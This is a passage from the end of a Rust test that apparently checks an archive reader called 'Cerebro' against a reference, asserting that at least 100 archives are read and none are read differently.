    // Most are read, not refused: the comparison is not won by refusing everything.
    assert!(agreed >= 100, "Cerebro read only {agreed} of {compared}");
    assert!(
        departures.is_empty(),
        "{} of {compared} archives read differently:\n{}",
        departures.len(),
        departures.join("\n")
    );
}
